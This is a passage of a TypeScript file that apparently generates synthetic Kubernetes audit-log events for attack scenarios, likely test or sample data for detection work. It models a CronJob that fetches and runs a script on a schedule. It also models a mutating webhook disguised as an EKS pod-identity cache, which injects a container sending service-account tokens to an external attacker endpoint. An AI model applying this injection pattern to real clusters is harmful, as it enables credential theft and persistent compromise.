  const name = `${CRONJOB}-${minute}`;
  const template = cronJobTemplate(true);
  const body: Ev = {
    kind: 'Job',
    apiVersion: 'batch/v1',
    metadata: {
      name,
      namespace: BACKDOOR_NS,
      creationTimestamp: null,
      annotations: { 'batch.kubernetes.io/cronjob-scheduled-timestamp': scheduled },
      ownerReferences: [
        { apiVersion: 'batch/v1', kind: 'CronJob', name: CRONJOB, uid: uuidFor(`uid/cronjob-${CRONJOB}`), controller: true, blockOwnerDeletion: true },
      ],
    },
    spec: template.spec,
    status: {},
  };
  return call({
    id: `d/job-${minute}`,
    at,
    ms: 8.8,
    level: 'RequestResponse',
    verb: 'create',
    uri: `/apis/batch/v1/namespaces/${BACKDOOR_NS}/jobs`,
    by: controller('cronjob-controller'),
    objectRef: ref('jobs', BACKDOOR_NS, name, 'batch'),
    code: 201,
    requestObject: body,
    responseObject: created(body, at, `job-${name}`, 'kube-controller-manager', { generation: 1 }),
  });
}

function jobCleanup(at: string, scheduled: string): Ev[] {
  const name = `${CRONJOB}-${Math.floor(Date.parse(scheduled) / 60_000)}`;
  return call({
    id: `d/ttl-delete-${name}`,
    at,
    ms: 6.1,
    level: 'Metadata',
    verb: 'delete',
    uri: `/apis/batch/v1/namespaces/${BACKDOOR_NS}/jobs/${name}`,
    by: controller('ttl-after-finished-controller'),
    objectRef: ref('jobs', BACKDOOR_NS, name, 'batch'),
  });
}

function downloadingCronJob(): Story {
  const at = '2026-11-20T12:00:04.205337Z';
  const create = call({
    id: 'd/create-cronjob',
    at,
    ms: 9.6,
    level: 'RequestResponse',
    verb: 'create',
    uri: `/apis/batch/v1/namespaces/${BACKDOOR_NS}/cronjobs?fieldManager=kubectl-create&fieldValidation=Strict`,
    by: backdoorToken,
    objectRef: ref('cronjobs', BACKDOOR_NS, CRONJOB, 'batch'),
    code: 201,
    requestObject: cronJobBody(false),
    responseObject: created(cronJobBody(true), at, `cronjob-${CRONJOB}`, 'kubectl-create', { generation: 1 }),
  });
  return {
    id: 'd',
    title: 'A CronJob that downloads and runs a script every five minutes',
    parts: [
      [
        'fluent-bit-12',
        [
          ...create,
          ...scheduledJob('2026-11-20T12:05:00.031874Z', '2026-11-20T12:05:00Z'),
          ...jobCleanup('2026-11-20T12:06:09.412550Z', '2026-11-20T12:05:00Z'),
          ...scheduledJob('2026-11-20T12:10:00.027613Z', '2026-11-20T12:10:00Z'),
        ],
      ],
      [
        'webhook-13',
        [...scheduledJob('2026-11-20T13:00:00.029944Z', '2026-11-20T13:00:00Z'), ...scheduledJob('2026-11-20T13:05:00.035102Z', '2026-11-20T13:05:00Z')],
      ],
    ],
  };
}

// ---------------------------------------------------------------------------------------------
// c. A mutating webhook outside the cluster that sees (and rewrites) every new pod.

const WEBHOOK_CONFIG = 'eks-pod-identity-cache';
const WEBHOOK = 'cache.pod-identity.eks.amazonaws.com';
const WEBHOOK_URL = 'https://h3k9x2m7qa.execute-api.us-east-1.amazonaws.com/prod/mutate';

function webhookBody(defaults: boolean): Ev {
  return {
    kind: 'MutatingWebhookConfiguration',
    apiVersion: 'admissionregistration.k8s.io/v1',
    metadata: { name: WEBHOOK_CONFIG, creationTimestamp: null, labels: { 'app.kubernetes.io/part-of': 'amazon-eks-pod-identity' } },
    webhooks: [
      {
        name: WEBHOOK,
        clientConfig: { url: WEBHOOK_URL },
        rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'], scope: '*' }],
        failurePolicy: 'Ignore',
        ...(defaults ? { matchPolicy: 'Equivalent', namespaceSelector: {}, objectSelector: {} } : {}),
        sideEffects: 'None',
        timeoutSeconds: 5,
        admissionReviewVersions: ['v1'],
        ...(defaults ? { reinvocationPolicy: 'Never' } : {}),
      },
    ],
  };
}

function externalWebhook(): Story {
  const at = '2026-11-20T13:00:06.881249Z';
  const create = call({
    id: 'c/create-webhook',
    at,
    ms: 6.7,
    level: 'RequestResponse',
    verb: 'create',
    uri: '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations?fieldManager=kubectl-create&fieldValidation=Strict',
    by: backdoorToken,
    objectRef: ref('mutatingwebhookconfigurations', undefined, WEBHOOK_CONFIG, 'admissionregistration.k8s.io'),
    code: 201,
    requestObject: webhookBody(false),
    responseObject: created(webhookBody(true), at, `webhook-${WEBHOOK_CONFIG}`, 'kubectl-create', { generation: 1 }),
  });

  // Five minutes later a ReplicaSet replaces a checkout pod: the webhook adds a container that
  // posts the pod's service-account token to the attacker. The pod itself raises nothing (the
  // controller made it from a clean template); the annotations show who changed it.
  const podAt = '2026-11-20T13:05:02.517730Z';
  const pod = 'checkout-api-7c9d5b8f4d-x2kpl';
  const rsUid = uuidFor('uid/replicaset-checkout-api');
  const metadata: Ev = {
    generateName: 'checkout-api-7c9d5b8f4d-',
    namespace: 'checkout',
    creationTimestamp: null,
    labels: { app: 'checkout-api', 'app.kubernetes.io/part-of': 'checkout', 'pod-template-hash': '7c9d5b8f4d' },
    ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'checkout-api-7c9d5b8f4d', uid: rsUid, controller: true, blockOwnerDeletion: true }],
  };
  const app: Ev = {
    name: 'app',
    image: `${ACCOUNT}.dkr.ecr.us-west-2.amazonaws.com/checkout/checkout-api:v2.14.3`,
    ports: [{ name: 'http', containerPort: 8080, protocol: 'TCP' }],
    resources: { limits: { memory: '512Mi' }, requests: { cpu: '250m', memory: '512Mi' } },
    volumeMounts: [{ name: 'kube-api-access-8vq2n', readOnly: true, mountPath: '/var/run/secrets/kubernetes.io/serviceaccount' }],
    terminationMessagePath: '/dev/termination-log',
    terminationMessagePolicy: 'File',
    imagePullPolicy: 'IfNotPresent',
    securityContext: { capabilities: { drop: ['ALL'] }, runAsNonRoot: true, readOnlyRootFilesystem: true, allowPrivilegeEscalation: false },
  };
  const injected: Ev = {
    name: 'pod-identity-cache',
    image: 'public.ecr.aws/h3k9x2m7/pod-identity-cache:0.9.1',
    args: ['--token=/var/run/secrets/kubernetes.io/serviceaccount/token', `--upstream=${WEBHOOK_URL.replace('/mutate', '/collect')}`],
    resources: {},
    volumeMounts: [{ name: 'kube-api-access-8vq2n', readOnly: true, mountPath: '/var/run/secrets/kubernetes.io/serviceaccount' }],
    terminationMessagePath: '/dev/termination-log',
    terminationMessagePolicy: 'File',
    imagePullPolicy: 'IfNotPresent',
  };
  const spec = (containers: Ev[]): Ev => ({
    volumes: [
      {
        name: 'kube-api-access-8vq2n',
        projected: {
          sources: [
            { serviceAccountToken: { expirationSeconds: 3607, path: 'token' } },
            { configMap: { name: 'kube-root-ca.crt', items: [{ key: 'ca.crt', path: 'ca.crt' }] } },
          ],
          defaultMode: 420,
        },
      },
    ],
    containers,
    restartPolicy: 'Always',
    terminationGracePeriodSeconds: 30,
    dnsPolicy: 'ClusterFirst',
    serviceAccountName: 'checkout-api',
    serviceAccount: 'checkout-api',
    securityContext: { fsGroup: 65534 },
    schedulerName: 'default-scheduler',
    enableServiceLinks: true,
  });
  const podCreate = call({
    id: 'c/mutated-pod',
    at: podAt,
    ms: 231.5,
    level: 'RequestResponse',
    verb: 'create',
    uri: '/api/v1/namespaces/checkout/pods',
    by: controller('replicaset-controller'),
    objectRef: ref('pods', 'checkout', pod),
    code: 201,
    requestObject: { kind: 'Pod', apiVersion: 'v1', metadata, spec: spec([app]), status: {} },
    responseObject: {
      kind: 'Pod',
      apiVersion: 'v1',
      metadata: {
        ...metadata,
        name: pod,
        uid: uuidFor(`uid/pod-${pod}`),
        resourceVersion: '183977410',
        creationTimestamp: secondsTime(micros(podAt)),
        managedFields: [managedBy('kube-controller-manager', 'v1', podAt, { metadata, spec: spec([app]) })],
      },
      spec: spec([app, injected]),
      status: { phase: 'Pending', qosClass: 'Burstable' },
    },
    annotations: {
      'mutation.webhook.admission.k8s.io/round_0_index_1': JSON.stringify({ configuration: WEBHOOK_CONFIG, webhook: WEBHOOK, mutated: true }),
      'patch.webhook.admission.k8s.io/round_0_index_1': JSON.stringify({
        configuration: WEBHOOK_CONFIG,
        webhook: WEBHOOK,
        patch: [{ op: 'add', path: '/spec/containers/1', value: injected }],
        patchType: 'JSONPatch',
      }),
      'pod-security.kubernetes.io/enforce-policy': 'privileged:latest',
    },
  });
  return { id: 'c', title: 'A mutating webhook outside the cluster', parts: [['webhook-13', [...create, ...podCreate]]] };
}

// ---------------------------------------------------------------------------------------------

export const STORIES: Story[] = [stolenCredentials(), privilegedDaemonSet(), externalWebhook(), downloadingCronJob(), databaseExec(), crashLoop()];

/** Every story event that belongs in one sample object. */
export function storyEvents(object: SampleObject): Ev[] {
  return STORIES.flatMap((s) => s.parts.filter(([o]) => o === object).flatMap(([, events]) => events));
}
